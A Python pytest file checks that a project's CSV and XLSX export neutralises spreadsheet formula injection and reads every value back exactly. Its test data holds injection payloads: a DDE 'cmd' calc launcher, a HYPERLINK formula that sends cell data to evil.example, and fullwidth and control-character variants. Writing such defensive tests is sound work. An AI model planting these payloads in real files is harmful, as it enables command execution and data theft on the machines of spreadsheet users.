"""Exported tables never execute in a spreadsheet, and every reply reads back exactly (issue 12, item 2)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from trustmh.bulk.tables import read_table, write_table
from trustmh.core.spreadsheet import neutralise_csv_cell, restore_csv_cell

HOSTILE = [
    "=== Coping plan ===",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝cmd|' /C calc'!A0",  # fullwidth = + - @: East Asian input methods make them formulas
    "＋SUM(1,2)",
    "－2+3",
    "＠SUM(A1:A9)",
    "'＝already quoted",
    "+１２",  # fullwidth digits: not a plain number
    "'=already quoted",
    "''-twice",
    "'plain quote",
    "- a markdown bullet\n- another",
    "-0.25",
    "42",
    "line one\r\nline two\rthree",
    "bell\x07 escape\x1b vertical\x0b nul\x00",
    "a literal _x000B_ and _x005F_ in text",
    "  leading and trailing spaces  ",
    "",
]


def _rows() -> list[dict[str, str]]:
    return [{"ConvID": str(i + 1), "context": "ctx", "reply": text} for i, text in enumerate(HOSTILE)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_reply_round_trips_exactly(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    write_table(path, ["ConvID", "context", "reply"], _rows())
    table = read_table(path, ["ConvID"])
    assert [row["reply"] for row in table.rows] == HOSTILE
    assert [row["ConvID"] for row in table.rows] == [str(i + 1) for i in range(len(HOSTILE))]


def test_xlsx_has_no_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, ["ConvID", "context", "reply"], _rows())
    sheet = openpyxl.load_workbook(path).active  # not data_only: formulas would show as type "f"
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert sheet.cell(row=2, column=3).value == "=== Coping plan ==="


def test_csv_cells_start_with_no_formula_character(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_table(path, ["ConvID", "context", "reply"], _rows())
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [row["reply"] for row in csv.DictReader(handle)]
    dangerous = [c for c in cells if c[:1] and c[0] in "=+-@\t\r＝＋－＠" and c != "-0.25"]
    assert dangerous == []
    assert cells[HOSTILE.index("=cmd|' /C calc'!A0")] == "'=cmd|' /C calc'!A0"
    assert cells[HOSTILE.index("-0.25")] == "-0.25"  # a number is not a formula


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    assert restore_csv_cell(neutralise_csv_cell(text)) == text


def test_csv_headers_are_neutralised_and_read_back(tmp_path: Path) -> None:
    """A column name is user text too (a model label, an input header): issue 25."""
    path = tmp_path / "out.csv"
    columns = ["ConvID", "=cmd|' /C calc'!A0", "@SUM(A1)", "reply"]
    write_table(path, columns, [{"ConvID": "1", columns[1]: "x", columns[2]: "y", "reply": "z"}])
    with path.open(encoding="utf-8", newline="") as handle:
        header = next(csv.reader(handle))
    assert [name[:1] for name in header] == ["C", "'", "'", "r"]
    table = read_table(path, ["ConvID"])
    assert table.columns == columns and table.rows[0][columns[1]] == "x"
